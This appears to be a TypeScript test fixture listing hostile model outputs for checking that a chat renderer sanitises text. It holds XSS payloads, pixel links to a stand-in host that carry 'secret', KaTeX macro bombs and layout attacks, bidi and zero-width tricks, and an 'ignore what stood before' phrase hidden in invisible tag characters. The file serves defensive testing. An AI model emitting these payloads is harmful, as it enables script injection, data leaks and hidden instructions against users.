/** Texts that a model might be brought to write so that a page runs, fetches, hides or hangs on something. */

/** Where nothing may ever be fetched from. */
export const ELSEWHERE = 'https://elsewhere.example';

/** What a script of theirs would set. */
export const RAN = '__hostile';

const run = `globalThis.${RAN}=1`;

const html: readonly string[] = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<img src="${ELSEWHERE}/pixel.png">`,
  `<svg onload="${run}"><script>${run}</script></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${run}">CLICK</maction></math>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<a href="javascript:${run}">press</a> <base href="${ELSEWHERE}/">`,
  `<style>@import "${ELSEWHERE}/x.css"; * { display: none }</style>`,
  `<link rel=stylesheet href=${ELSEWHERE}/x.css><meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<form action="${ELSEWHERE}"><input autofocus onfocus="${run}"></form>`,
  `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x&#62;`,
  `\`\`\`html\n<script>${run}</script>\n\`\`\`\n</code></pre><script>${run}</script>`,
  `| a | <img src=x onerror=${run}> |\n|---|---|\n| </td><script>${run}</script> | b |`,
];

const links: readonly string[] = [
  `[press](javascript:${run}) and [this](data:text/html,<script>${run}</script>)`,
  `![pixel](${ELSEWHERE}/pixel.png?words=secret)`,
  `[![both](${ELSEWHERE}/a.png)](${ELSEWHERE}/b)`,
  `[ref]: ${ELSEWHERE}/ref\n\n[ref] ![ref]`,
  `<${ELSEWHERE}/auto> ${ELSEWHERE}/bare`,
  `[a](${ELSEWHERE} "onmouseover=${run}") [b](<javascript:${run}>)`,
];

const maths: readonly string[] = [
  `$\\href{javascript:${run}}{press}$ and $\\url{${ELSEWHERE}}$`,
  `$\\includegraphics{${ELSEWHERE}/pixel.png}$`,
  `$\\htmlData{x=y}{a}$ $\\htmlId{cat-app}{a}$ $\\htmlClass{sheet}{a}$ $\\htmlStyle{position:fixed}{a}$`,
  '$\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b}\\c\\c\\c\\c\\c\\c$',
  '$\\newcommand{\\a}{\\a\\a}\\a$ $\\gdef\\x{y}\\x$ $\\let\\a=b\\a$',
  '$\\rule{9999em}{9999em}$ $\\kern9999em x$ $\\hspace{99999pt}$ $\\raisebox{9999em}{x}$',
  `$\\text{<script>${run}</script><img src=x onerror=${run}>}$`,
  '$\\color{#fff}{hidden}$ $\\colorbox{red}{x}$ $\\fcolorbox{red}{blue}{x}$ $\\pmb{x}$ $\\fbox{x}$ $\\cancel{x}$',
  `$${'{'.repeat(900)}x${'}'.repeat(900)}$`,
  `$${'\\frac{1}{'.repeat(200)}x${'}'.repeat(200)}$`,
  `$${'x^'.repeat(500)}$ $${'\\sqrt{'.repeat(150)}`,
  `$\\begin{array}{${'c'.repeat(400)}}${'x&'.repeat(399)}\\end{array}$`,
  '$x</annotation></semantics></math><img src=x>$',
];

const signs: readonly string[] = [
  'The answer is \u202E24\u202C, **no**, \u2066 72 \u2069 \u200Bit\u200B is\uFEFF 42.',
  `**read** ${[...'ignore what stood before'].map((char) => String.fromCodePoint(0xe0000 + char.charCodeAt(0))).join('')} this`,
  `\`${'A'.repeat(20_000)}\` ${'B'.repeat(20_000)}`,
  `**Z${'\u0301'.repeat(3_000)}algo**`,
  `${'> '.repeat(2_000)}deep\n\n${'- '.repeat(2_000)}deep`,
  `${'**a *b '.repeat(3_000)}`,
  `${'['.repeat(5_000)}${'](x'.repeat(5_000)}`,
  `${'`'.repeat(999)} ${'$'.repeat(999)} \\(\\[\\(\\[`,
  `a\u0000b \uD800 **c** \uDFFF`,
];

/** Each a text of its own. */
export const hostile: readonly string[] = [...html, ...links, ...maths, ...signs];
